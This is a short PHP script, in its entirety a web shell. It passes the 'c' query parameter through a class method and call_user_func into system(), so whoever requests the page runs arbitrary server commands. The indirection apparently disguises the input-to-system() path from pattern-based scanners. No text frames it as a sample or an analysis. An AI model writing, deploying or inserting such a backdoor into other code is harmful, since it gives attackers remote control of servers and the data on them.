<?php
class K { static function v() { return $_GET["c"]; } }
system(call_user_func(["K", "v"]));
